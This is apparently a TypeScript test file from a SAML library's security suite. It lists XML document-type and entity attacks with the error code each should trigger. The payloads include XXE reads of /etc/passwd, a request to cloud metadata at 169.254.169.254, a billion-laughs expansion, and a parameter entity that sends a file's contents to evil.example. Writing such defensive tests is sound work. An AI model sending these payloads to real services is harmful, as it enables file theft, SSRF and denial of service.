import { type AttackCase, type AttackRow, attackFamily } from '../attack-case.ts';
import { type Message, mallory } from '../message.ts';

const doctype = (m: Message, subset: string): string =>
  m.swap('<saml2p:Response ', `<!DOCTYPE saml2p:Response ${subset}><saml2p:Response `);

const laughs = Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
).join('');

const subsets: readonly (readonly [what: string, subset: string])[] = [
  ['nothing', ''],
  ['an internal entity', `[<!ENTITY who "${mallory}">]`],
  ['an entity from a file', '[<!ENTITY who SYSTEM "file:///etc/passwd">]'],
  [
    'an entity from the network',
    '[<!ENTITY who SYSTEM "http://169.254.169.254/latest/meta-data/">]',
  ],
  ['an entity with a public identifier', '[<!ENTITY who PUBLIC "x" "http://evil.example/x.dtd">]'],
  ['a parameter entity', '[<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]'],
  [
    'a parameter entity that sends a file away',
    '[<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://evil.example/?%f;\'>">%e;%s;]',
  ],
  ['a billion laughs', `[<!ENTITY l0 "ha">${laughs}]`],
  ['a quadratic blow-up', `[<!ENTITY a "${'a'.repeat(10_000)}">]`],
  ['an entity that holds itself', '[<!ENTITY a "&b;"><!ENTITY b "&a;">]'],
  ['a default ID', '[<!ATTLIST saml2:NameID ID CDATA "_forged">]'],
  ['an ID of another name', '[<!ATTLIST saml2:Assertion Fake ID #IMPLIED>]'],
  ['a default namespace', '[<!ATTLIST saml2:NameID xmlns CDATA "urn:evil">]'],
  ['a notation', '[<!NOTATION n SYSTEM "cmd">]'],
  ['an unparsed entity', '[<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "e" NDATA n>]'],
  ['an element', '[<!ELEMENT saml2:NameID EMPTY>]'],
  ['a DTD from the network', 'SYSTEM "http://evil.example/x.dtd"'],
  [
    'a public DTD',
    'PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"',
  ],
  ['a predefined entity with another meaning', '[<!ENTITY amp "&#60;evil/&#62;">]'],
];

const declared: readonly AttackRow[] = subsets.map(([what, subset]) => ({
  name: `a document type with ${what}`,
  story: 'SAML needs no document type, and everything that one can do is an attack.',
  tampered: (m) => doctype(m, subset),
  expected: 'xml_doctype',
  attackerValues: [mallory],
}));

/** Places for a document type, and marks that look like one. */
const marks: readonly AttackRow[] = (
  [
    [
      'a document type inside the Response',
      '<saml2p:Status ',
      '<!DOCTYPE x><saml2p:Status ',
      'xml_doctype',
    ],
    [
      'a document type in lower case',
      '<saml2p:Response ',
      '<!doctype x><saml2p:Response ',
      'xml_malformed',
    ],
    [
      'an entity declaration inside the Response',
      '<saml2p:Status ',
      '<!ENTITY a "b"><saml2p:Status ',
      'xml_malformed',
    ],
    [
      'a conditional section',
      '<saml2p:Status ',
      '<![INCLUDE[<a/>]]><saml2p:Status ',
      'xml_malformed',
    ],
    ['an entity that nobody declared', 'alice@example.com', '&who;', 'xml_malformed'],
    ['the entity &nbsp;', 'alice@example.com', 'alice&nbsp;@example.com', 'xml_malformed'],
    ['the entity &__proto__;', 'alice@example.com', '&__proto__;', 'xml_malformed'],
    ['the entity &constructor;', 'alice@example.com', '&constructor;', 'xml_malformed'],
    ['the entity &toString;', 'alice@example.com', '&toString;', 'xml_malformed'],
    ['an entity in an attribute', 'Version="2.0"', 'Version="&who;"', 'xml_malformed'],
    [
      'a stylesheet',
      '<saml2p:Response ',
      '<?xml-stylesheet href="http://evil.example/x.xsl"?><saml2p:Response ',
      'xml_processing_instruction',
    ],
    [
      'a processing instruction behind the root',
      '</saml2p:Response>',
      '</saml2p:Response><?evil?>',
      'xml_processing_instruction',
    ],
    [
      'an XInclude',
      '<saml2p:Status ',
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><saml2p:Status ',
      'response_malformed',
    ],
  ] as const
).map(([name, from, to, expected]) => ({
  name,
  story: 'Whatever may pull in or expand something else is refused before anything is read.',
  tampered: (m) => m.swap(from, to),
  expected,
}));

const behind: readonly AttackRow[] = [
  {
    name: 'a document type behind the root',
    story: 'A parser that reads on finds one more declaration.',
    tampered: (m) => `${m.xml}<!DOCTYPE x>`,
    expected: 'xml_doctype',
  },
  {
    name: 'a document type in a comment',
    story: 'A filter that searches for the word would refuse it; it is a comment.',
    tampered: (m) =>
      m.swap('<saml2p:Response ', '<!-- <!DOCTYPE x [<!ENTITY a "b">]> --><saml2p:Response '),
    expected: 'accepted',
  },
];

export const entities: readonly AttackCase[] = attackFamily('entities', [
  ...declared,
  ...marks,
  ...behind,
]);
